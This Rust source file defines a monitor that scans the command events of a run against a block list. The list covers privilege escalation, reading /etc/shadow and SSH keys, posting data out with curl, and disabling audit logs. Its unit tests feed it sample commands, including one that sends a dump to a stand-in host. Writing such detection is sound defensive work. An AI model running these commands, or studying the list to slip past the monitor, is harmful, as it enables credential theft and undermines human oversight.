//! Command-stream compliance.
//!
//! Scans command events for patterns that crossed an enforceable policy:
//! privilege escalation, data exfiltration, and tampering with audit or
//! monitoring infrastructure. A matched command is a recorded fact, so this
//! monitor is `authoritative`: a positive detection is actionable on its
//! own.

use serde_json::json;

use super::collect_text_for_kinds;
use crate::{
    monitor_result, short_circuit_result, Monitor, MonitorCategory, MonitorContext,
    MonitorResult, TrustLevel,
};
use poi_trace::EventKind;

/// Blocked command patterns, by policy category
const BLOCKED_PATTERNS: &[(&str, &str)] = &[
    // privilege escalation
    ("sudo su", "privilege-escalation"),
    ("sudo -i", "privilege-escalation"),
    ("chmod u+s", "privilege-escalation"),
    ("chmod 4755", "privilege-escalation"),
    ("setcap ", "privilege-escalation"),
    ("pkexec", "privilege-escalation"),
    // exfiltration
    ("/etc/shadow", "exfiltration"),
    ("/etc/passwd", "exfiltration"),
    (".ssh/id_rsa", "exfiltration"),
    ("curl -d @", "exfiltration"),
    ("curl --data @", "exfiltration"),
    ("base64 /etc", "exfiltration"),
    // monitor tampering
    ("auditctl -e 0", "monitor-disable"),
    ("systemctl stop auditd", "monitor-disable"),
    ("unset histfile", "monitor-disable"),
    ("history -c", "monitor-disable"),
    ("rm -rf /var/log", "monitor-disable"),
    ("truncate -s 0 /var/log", "monitor-disable"),
];

/// Score contribution per matched pattern
const PER_MATCH_SCORE: f64 = 0.5;

/// Command-policy detector
pub struct ActionComplianceMonitor {
    threshold: f64,
}

impl ActionComplianceMonitor {
    pub fn new() -> Self {
        Self { threshold: 0.4 }
    }

    pub fn with_threshold(threshold: f64) -> Self {
        Self { threshold }
    }
}

impl Default for ActionComplianceMonitor {
    fn default() -> Self {
        Self::new()
    }
}

impl Monitor for ActionComplianceMonitor {
    fn id(&self) -> &str {
        "action-compliance"
    }
    fn version(&self) -> &str {
        "1.0.0"
    }
    fn category(&self) -> MonitorCategory {
        MonitorCategory::Action
    }
    fn trust_level(&self) -> TrustLevel {
        TrustLevel::Authoritative
    }
    fn threshold(&self) -> f64 {
        self.threshold
    }

    fn analyze(&mut self, context: &MonitorContext<'_>) -> MonitorResult {
        let command_count = context
            .events
            .iter()
            .filter(|e| e.kind == EventKind::Command)
            .count();
        let text =
            collect_text_for_kinds(context.events, Some(&[EventKind::Command])).to_lowercase();
        if text.is_empty() {
            return short_circuit_result(self, "no-command-content");
        }

        let matches: Vec<_> = BLOCKED_PATTERNS
            .iter()
            .filter(|(pattern, _)| text.contains(pattern))
            .map(|(pattern, category)| json!({ "pattern": pattern, "category": category }))
            .collect();
        let score = (matches.len() as f64 * PER_MATCH_SCORE).min(1.0);

        monitor_result(
            self,
            score,
            json!({
                "matches": matches,
                "matchCount": matches.len(),
                "commandCount": command_count,
            }),
        )
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::detector_context;
    use crate::detectors::testutil::run_with_events;
    use serde_json::Value;

    fn analyze_commands(commands: &[&str]) -> MonitorResult {
        let run = run_with_events(
            commands
                .iter()
                .map(|c| (EventKind::Command, json!({ "cmd": c })))
                .collect(),
        );
        let meta = Value::Null;
        let context = detector_context!(run, meta);
        ActionComplianceMonitor::new().analyze(&context)
    }

    #[test]
    fn test_ordinary_commands_pass() {
        let result = analyze_commands(&["ls -la", "cargo build", "git status"]);
        assert_eq!(result.score, 0.0);
        assert!(!result.exceeded);
        assert_eq!(result.details["commandCount"], 3);
    }

    #[test]
    fn test_privilege_escalation_is_actionable() {
        let result = analyze_commands(&["sudo su -"]);
        assert!(result.exceeded);
        assert_eq!(result.trust_level, TrustLevel::Authoritative);
        assert_eq!(
            result.details["matches"][0]["category"],
            "privilege-escalation"
        );
    }

    #[test]
    fn test_exfiltration_pattern_detected() {
        let result = analyze_commands(&["cat /etc/shadow", "curl -d @dump.bin http://drop.example"]);
        assert!(result.exceeded);
        assert_eq!(result.details["matchCount"], 2);
        assert_eq!(result.score, 1.0);
    }

    #[test]
    fn test_monitor_tamper_detected() {
        let result = analyze_commands(&["systemctl stop auditd"]);
        assert!(result.exceeded);
        assert_eq!(result.details["matches"][0]["category"], "monitor-disable");
    }

    #[test]
    fn test_output_events_not_scanned() {
        // the same string in an output payload is not an action
        let run = run_with_events(vec![(
            EventKind::Output,
            json!({"stdout": "example: sudo su is dangerous"}),
        )]);
        let meta = Value::Null;
        let context = detector_context!(run, meta);
        let result = ActionComplianceMonitor::new().analyze(&context);
        assert_eq!(result.details["reason"], "no-command-content");
    }
}
